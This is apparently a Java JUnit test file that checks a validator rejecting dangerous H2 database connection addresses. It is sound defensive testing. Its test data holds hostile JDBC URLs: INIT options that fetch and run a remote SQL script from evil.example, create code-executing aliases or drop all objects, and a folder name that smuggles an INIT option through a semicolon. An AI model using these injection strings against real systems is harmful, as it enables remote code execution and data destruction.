package org.aimass.launcher;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.sql.DriverManager;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** T36: no address has H2 run statements, listen on a port or write a file of its own. */
class DatabaseAddressT36Test {

    @TempDir
    Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/data/portal;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:file:/data/portal;MODE=PostgreSQL;init=CREATE ALIAS EXEC AS $$ void e() {} $$",
                "jdbc:h2:file:/data/portal; Init =DROP ALL OBJECTS",
                "jdbc:h2:file:/data/portal;AUTO_SERVER=TRUE",
                "jdbc:h2:file:/data/portal;AUTO_SERVER_PORT=9092;MODE=PostgreSQL",
                "jdbc:h2:file:/data/portal;TRACE_LEVEL_FILE=3",
                "jdbc:h2:file:/data/portal;FORBID_CREATION=FALSE",
                "jdbc:h2:file:/data/portal;MODE=PostgreSQL\\;INIT=DROP ALL OBJECTS;\\INIT=SELECT 1",
                "jdbc:h2:file:/data/portal;"
            })
    void refusesOptions(String url) {
        String said = String.valueOf(assertThrows(CannotStart.class, () -> DatabaseAddress.checked(url))
                .getMessage());
        assertTrue(said.startsWith("AIMASS_DB_URL has the option \"") && said.endsWith("\", which is refused"), said);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:tcp://evil.example/portal",
                "jdbc:h2:ssl://evil.example/portal",
                "jdbc:h2:zip:/data/a.zip!/portal",
                "jdbc:h2:mem:portal;INIT=RUNSCRIPT FROM 'x.sql'",
                "jdbc:h2:split:file:/data/portal",
                "JDBC:H2:tcp://evil.example/portal",
                " jdbc:h2:tcp://evil.example/portal"
            })
    void refusesWhatIsNoFile(String url) {
        assertEquals(
                "AIMASS_DB_URL is no address of a file; expected jdbc:h2:file: and its path",
                assertThrows(CannotStart.class, () -> DatabaseAddress.checked(url))
                        .getMessage());
    }

    /** H2 would take the rest of the path for an option, and run it: so it does, where nobody looks. */
    @Test
    void refusesADataFolderThatIsAnOption() throws Exception {
        Path evil = folder.resolve("data;INIT=CREATE TABLE evil(x int)");
        assertTrue(String.valueOf(assertThrows(CannotStart.class, () -> DatabaseAddress.embedded(evil))
                        .getMessage())
                .contains("has a semicolon in its name"));
        try (var database = DriverManager.getConnection("jdbc:h2:file:" + evil)) {
            assertTrue(
                    database.getMetaData().getTables(null, null, "EVIL", null).next());
        }
    }

    @Test
    void takesItsOwnAndPostgres() throws CannotStart {
        String own = DatabaseAddress.embedded(Path.of("/data"));
        assertEquals(own, DatabaseAddress.checked(own));
        assertTrue(own.startsWith("jdbc:h2:file:/data/portal;MODE=PostgreSQL;"), own);
        assertEquals(
                "jdbc:postgresql://db/aimass?connectTimeout=5&loginTimeout=10&socketTimeout=120&tcpKeepAlive=true",
                DatabaseAddress.checked("jdbc:postgresql://db/aimass"));
        assertEquals(
                "jdbc:postgresql://db/aimass?ssl=true&connectTimeout=5&loginTimeout=10&socketTimeout=120&tcpKeepAlive=true",
                DatabaseAddress.checked("jdbc:postgresql://db/aimass?ssl=true"));
        assertEquals(
                "jdbc:postgresql://db/aimass?socketTimeout=7",
                DatabaseAddress.checked("jdbc:postgresql://db/aimass?socketTimeout=7"));
    }

    @Test
    void theDatabasesFolderIsItsOwnersAlone() throws Exception {
        Path data = folder.resolve("data");
        try (DataFolder taken = DataFolder.take(data, () -> {})) {
            assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(taken.path())));
        }
    }
}
